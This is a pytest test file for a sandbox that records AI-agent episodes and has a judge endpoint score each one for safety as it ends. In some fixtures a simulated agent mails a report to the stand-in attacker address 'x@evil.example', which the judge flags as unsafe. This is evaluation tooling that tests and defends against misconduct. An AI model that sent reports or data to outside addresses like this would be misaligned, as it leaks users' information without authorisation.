"""Record, score and gate in one flow: ``Sandbox(..., scoring=POLICY, verdicts=PATH)`` scores
each episode as it ends, in the background, on asyncio and trio."""

from __future__ import annotations

import json
from pathlib import Path

import anyio
import pytest
from judge_endpoint import Reply, Request, default_answer, running
from test_openai_judge import CANARY, config

from litmus_sandbox import Sandbox, ScoreStats, VerdictCache, read_verdicts
from litmus_sandbox._runtime.scorer import ScoringFailed, score_files

pytestmark = pytest.mark.anyio


@pytest.fixture(autouse=True)
def key(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LITMUS_JUDGE_KEY", CANARY)


async def send_email(to: str) -> str:
    return f"sent to {to}"


async def record(sandbox: Sandbox, cases: dict[str, str]) -> None:
    async with sandbox:
        for case, to in cases.items():
            async with sandbox.episode(case) as ep:
                ep.message("user", f"mail the report ({case})")
                await ep.call("send_email", to=to)
                ep.message("assistant", "done")


def sandbox(tmp_path: Path, url: str, **kw: object) -> Sandbox:
    return Sandbox(
        root=tmp_path / "root",
        episodes=tmp_path / "eps.jsonl",
        tools={"send_email": send_email},
        probes=(),
        egress=False,
        scoring=config(url),
        verdicts=tmp_path / "v.jsonl",
        cache=tmp_path / "cache.sqlite",
        **kw,  # type: ignore[arg-type]
    )


async def test_each_episode_is_scored_as_it_ends_like_score_would(tmp_path: Path) -> None:
    cases = {"c1": "boss@corp.example", "c2": "x@evil.example", "c3": "me@corp.example"}
    with running() as endpoint:
        await record(sandbox(tmp_path, endpoint.url), cases)
        live = read_verdicts(tmp_path / "v.jsonl")
        asked = len(endpoint.requests)
        # Scored again from the recordings, through the same cache: no request, same verdicts.
        with VerdictCache(tmp_path / "cache.sqlite") as cache:
            stats = await anyio.to_thread.run_sync(
                lambda: score_files(
                    [tmp_path / "eps.jsonl"],
                    config(endpoint.url),
                    tmp_path / "again.jsonl",
                    cache=cache,
                )
            )
    assert asked == 3 * 3
    assert len(endpoint.requests) == asked
    assert stats.judge_calls == 0
    assert len(live.policies) == 1
    assert {v.case_id: v.safe for v in live.verdicts} == {"c1": True, "c2": False, "c3": True}
    again = read_verdicts(tmp_path / "again.jsonl")
    assert sorted(live.verdicts, key=lambda v: v.case_id) == sorted(
        again.verdicts, key=lambda v: v.case_id
    )
    assert CANARY.encode() not in (tmp_path / "v.jsonl").read_bytes()


async def test_verdicts_are_appended_while_the_sandbox_is_open(tmp_path: Path) -> None:
    with running() as endpoint:
        box = sandbox(tmp_path, endpoint.url)
        async with box:
            async with box.episode("c1") as ep:
                ep.message("user", "hello")
            with anyio.fail_after(10):
                # The background scoring offers nothing to wait on but its count.
                while box.scoring is not None and box.scoring.written < 1:  # noqa: ASYNC110
                    await anyio.sleep(0.01)
            lines = (tmp_path / "v.jsonl").read_text().splitlines()
            assert [json.loads(line)["kind"] for line in lines] == ["policy", "verdict"]
        # A second session appends to the same stream under the same policy record.
        await record(sandbox(tmp_path, endpoint.url), {"c2": "a@corp.example"})
    stream = read_verdicts(tmp_path / "v.jsonl")
    assert (len(stream.policies), len(stream.verdicts)) == (1, 2)


async def test_an_episode_the_judge_cannot_score_gets_no_verdict(tmp_path: Path) -> None:
    def answer(request: Request) -> Reply:
        if "evil" in request.step_text:
            return Reply(status=500)
        return default_answer(request)

    with running(answer) as endpoint:
        box = sandbox(tmp_path, endpoint.url)
        with pytest.raises(ScoringFailed) as caught:
            await record(box, {"c1": "boss@corp.example", "c2": "x@evil.example"})
    stats: ScoreStats = caught.value.stats
    assert stats.failure_counts() == {"http_status": 1}
    assert [v.case_id for v in read_verdicts(tmp_path / "v.jsonl").verdicts] == ["c1"]
    assert (tmp_path / "eps.jsonl").stat().st_size > 0  # the recording is whole anyway


def test_scoring_needs_verdicts(tmp_path: Path) -> None:
    from litmus_sandbox import ConfigError

    with pytest.raises(ConfigError, match="go together"):
        Sandbox(root=tmp_path, episodes=tmp_path / "e.jsonl", scoring=config("http://127.0.0.1:9"))
